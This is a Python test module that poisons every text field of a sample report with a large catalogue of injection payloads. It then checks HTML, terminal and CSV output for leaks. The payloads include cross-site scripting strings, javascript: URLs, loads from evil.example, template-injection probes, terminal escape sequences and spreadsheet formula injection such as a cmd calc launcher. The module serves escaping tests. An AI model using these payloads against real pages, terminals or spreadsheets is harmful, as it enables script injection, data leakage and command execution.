"""
Texts that pages, notes and files may hold to hurt whoever reads a report of them.

`PAYLOADS` has them by what they attack; `poisoned(payload)` is a whole report with one of them
in every place that foreign text can reach. The `..._faults` functions say what got through.
Nothing here is aimed at anybody: addresses are of `.example`, and commands print a word.
"""

from __future__ import annotations

import re
from dataclasses import fields, is_dataclass, replace
from datetime import date
from enum import Enum
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from types import MappingProxyType
from typing import TYPE_CHECKING, Any

from tests import sample

if TYPE_CHECKING:
    from verify.model import Report

PAYLOADS: dict[str, tuple[str, ...]] = {
    "script elements": (
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<!--><script>alert(1)</script-->",
        "--><script>alert(1)</script><!--",
        "]]><script>alert(1)</script>",
        "<script>alert(1)",
        "<<script>alert(1)//<</script>",
        "<scr\x00ipt>alert(1)</scr\x00ipt>",
        "<script/x>alert(1)</script>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        '<script type="application/json">{"a": 1}</script>',
        "\ufeff<script>alert(1)</script>",
        "＜script＞alert(1)＜/script＞",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
    ),
    "event handlers": (
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<a href=# onmouseover=alert(1)>word</a>",
        '" onmouseover="alert(1)',
        "' onmouseover='alert(1)",
        '" autofocus onfocus=alert(1) x="',
        "x onmouseover=alert(1) y",
        "` onmouseover=alert(1) `",
        '"><img src=x onerror=alert(1)>',
        "'><img src=x onerror=alert(1)>",
        "<p style=animation-name:x onanimationstart=alert(1)>",
    ),
    "addresses": (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "\x01javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "javascript://example.org/%0aalert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "file:///etc/passwd",
        "blob:https://example.org/1",
        "view-source:javascript:alert(1)",
        "feed:javascript:alert(1)",
        "//evil.example/x",
        "\\\\evil.example\\share",
        "https://user:word@evil.example/",
        'https://example.org/"onmouseover="alert(1)',
        "https://example.org/'onmouseover='alert(1)",
        "https://example.org/><script>alert(1)</script>",
        "https://example.org/\u202egnp.exe",
        "https://ex\x00ample.org/",
        "ms-msdt:/id PCWDiagnostic",
        "smb://evil.example/share",
        "intent://x#Intent;scheme=javascript;end",
    ),
    "resources": (
        "<img src=https://evil.example/pixel>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<iframe src=https://evil.example/></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=https://evil.example/x></object>",
        "<embed src=https://evil.example/x>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<form action=https://evil.example/><button>word</button></form>",
        "<a ping=https://evil.example/ href=#>word</a>",
        "<video poster=https://evil.example/x>",
        "<a href=https://evil.example/ download>word</a>",
    ),
    "vector graphics and mathematics": (
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>word</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
        "<svg><foreignObject><body onload=alert(1)></body></foreignObject></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>word</maction></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ),
    "style": (
        "</style><style>body{display:none}</style>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<p style='background:url(https://evil.example/x)'>",
        "red;background:url(https://evil.example/x)",
        "expression(alert(1))",
        "*/ body{display:none} /*",
        "<p class=outcome-supported style=position:fixed;inset:0>all is well</p>",
    ),
    "templates": (
        "{{ 7 * 7 }}",
        "{% raw %}{{ 7 * 7 }}{% endraw %}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ config }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7 * 7 %>",
        "{#",
        "%s %d %n %(password)s",
        "{0.__class__}",
        "$(echo word)",
        "`echo word`",
        "\\1 \\g<0>",
    ),
    "bidirectional controls": (
        "\u202etxt.exe\u202c",
        "\u202dleft\u202c",
        "\u202bright\u202c",
        "\u2067isolated",
        "\u2068\u2067\u2066",
        "\u2069\u2069\u2069",
        "claim \u202edetroppus\u202c",
    ),
    "what cannot be seen": (
        "wo\u200brd",
        "wo\u2060rd",
        "\U000e0041\U000e0042\U000e0043",
        "\ufeffword",
        "word\u2028word",
        "word\u2029word",
        "word\x85word",
        "word\x00word",
        "word\ud800word",
        "a" + "\u0301" * 200,
        "\u115f\u1160\u3164",
    ),
    "terminal escapes": (
        "\x1b[2J\x1b[H",
        "\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07",
        "\x1b]0;title\x1b\\",
        "\x1b]8;;https://evil.example/\x07word\x1b]8;;\x07",
        "\x1b]52;c;d29yZA==\x07",
        "\x1b]1337;File=name=d29yZA==:d29yZA==\x07",
        "\x1bP+q544e\x1b\\",
        "\x1b[6n",
        "\x1b[21t",
        "\x1b[?1049h",
        "\x1b[1A\x1b[2Kall citations were checked",
        "\x1bc",
        "\x1b(0lqqk",
        "\x9b31mred",
        "\x9d0;title\x9c",
        "\x90q\x9c",
        "\x1b^word\x1b\\",
        "all is well\rsupported",
        "supported\x08\x08\x08\x08",
        "\x07\x07\x07",
        "\x0e\x0f",
        "\x7f\x7f",
        "[bold red]word[/]",
        "[link=https://evil.example/]word[/link]",
        ":warning:",
    ),
    "spreadsheets": (
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        '=HYPERLINK("https://evil.example/","word")',
        '=IMPORTXML("https://evil.example/","//a")',
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        '"=1+1',
        ";=1+1",
        "＝1+1",
        'word",=1+1,"word',
    ),
    "Markdown and tables": (
        "[word](javascript:alert(1))",
        "![word](https://evil.example/pixel)",
        "[word]: javascript:alert(1)",
        "<https://evil.example/>",
        "| a | b |\n|---|---|",
        "word | word",
        "\n# heading\n",
        "\n\n---\n\n",
        "```\nword\n```",
        "~~~",
        "`word`",
        "\n- [x] done",
        "@somebody look",
        "#1",
        "<details><summary>word",
        "<!-- hidden",
        "\\",
        "\n    code",
        "$$\\href{javascript:alert(1)}{word}$$",
        "::error file=a.py,line=1::word",
        "\n::set-output name=word::word",
        "%0A::warning::word",
        "##[error]word",
        "\n::stop-commands::word",
    ),
    "XML": (
        "]]>",
        "<![CDATA[word]]>",
        "<?xml version='1.0'?>",
        "<!DOCTYPE a [<!ENTITY b 'word'>]>&b;",
        "&undefined;",
        '"/><failure message="word"/>',
        "word\x0bword",
        "word\ufffe\uffffword",
    ),
    "length": ("word " * 2_000, "w" * 10_000, "<" * 2_000, "\n" * 2_000, "«" * 1_000),
}

ALL: tuple[str, ...] = tuple(p for group in PAYLOADS.values() for p in group)

SHORT: tuple[str, ...] = tuple(p for p in ALL if len(p) < 1_000)

HARMLESS = "word"
"""What every payload is compared with."""


@cache
def _report() -> Report:
    return sample.report()


def poisoned(payload: str) -> Report:
    """Return a report that holds `payload` wherever foreign text can reach."""
    poisoned_report: Report = _poisoned(_report(), payload)
    return poisoned_report


NAMES = frozenset({"id", "source_id", "label", "labels", "named", "sha256", "code", "language"})
"""What things are known by: the payload is added, so that they stay different from each other."""

POSITIONED = frozenset({"text", "raw"})
"""What spans index: the payload comes last."""

OURS = frozenset({"rule", "severity", "code", "findings", "via", "method"})
"""What is written by us alone."""


def _poisoned(value: Any, payload: str, name: str = "") -> Any:
    """Copy `value` with the payload in each text."""
    if name in OURS or isinstance(value, Enum | date | bytes | int | float | None):
        return value
    if isinstance(value, str):
        keeps = name in NAMES | POSITIONED
        return type(value)(value + payload if keeps else payload)
    if isinstance(value, Path):
        return Path(payload.replace("\x00", "") or "a")
    if isinstance(value, tuple):
        return tuple(_poisoned(item, payload, name) for item in value)
    if isinstance(value, dict | MappingProxyType):
        keys = "id" if name in {"sources", "readings"} else "key"
        return {
            (_poisoned(k, payload, keys) if keys == "id" else k): _poisoned(v, payload, keys)
            for k, v in value.items()
        }
    assert is_dataclass(value), type(value)
    changed = {
        f.name: _poisoned(getattr(value, f.name), payload, f.name) for f in fields(value) if f.init
    }
    return replace(value, **changed)  # type: ignore[type-var]


# --- what got through -------------------------------------------------------------------

ESCAPES = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def terminal_faults(output: str) -> list[str]:
    """Return what could drive a terminal or turn its text around."""
    return [f"U+{ord(c):04X}" for c in sorted(set(ESCAPES.findall(output)))]


LINKING = frozenset({"href", "src", "action", "formaction", "data", "poster", "xlink:href", "ping"})
LINKS = re.compile(r"(?:https?://|#)", re.IGNORECASE)


class _Structure(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.shapes: set[tuple[str, str]] = set()
        self.faults: list[str] = []
        self.scripts: list[str] = []
        self.inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.inside = tag
        self.shapes.add((tag, ""))
        for name, value in attrs:
            self.shapes.add((tag, name))
            if name.startswith("on"):
                self.faults.append(f"{tag} has {name}")
            if name in LINKING and not LINKS.match(value or ""):
                self.faults.append(f"{tag} leads to {(value or '')[:60]!r}")
            if name in {"src", "srcset", "poster", "data"} and value:
                self.faults.append(f"{tag} loads {value[:60]!r}")

    def handle_endtag(self, tag: str) -> None:  # noqa: ARG002
        self.inside = ""

    def handle_data(self, data: str) -> None:
        if self.inside in {"script", "style"}:
            self.scripts.append(data)


def _structure(page: str) -> _Structure:
    structure = _Structure()
    structure.feed(page)
    return structure


def html_faults(page: str, harmless: str) -> list[str]:
    """
    Return what a page has that the page of a harmless report has not.

    Elements, attributes, scripts and style sheets must be the same; links lead to the web.
    """
    here, there = _structure(page), _structure(harmless)
    grown = [f"new: {tag} {name}".strip() for tag, name in sorted(here.shapes - there.shapes)]
    changed = [] if here.scripts == there.scripts else ["a script or a style sheet changed"]
    return [*here.faults, *grown, *changed]


def csv_faults(cell: str) -> list[str]:
    """Return why a cell would be read as a formula."""
    return [f"begins with {cell[0]!r}"] if cell[:1] in set("=+-@\t\r\n＝＋－＠") else []
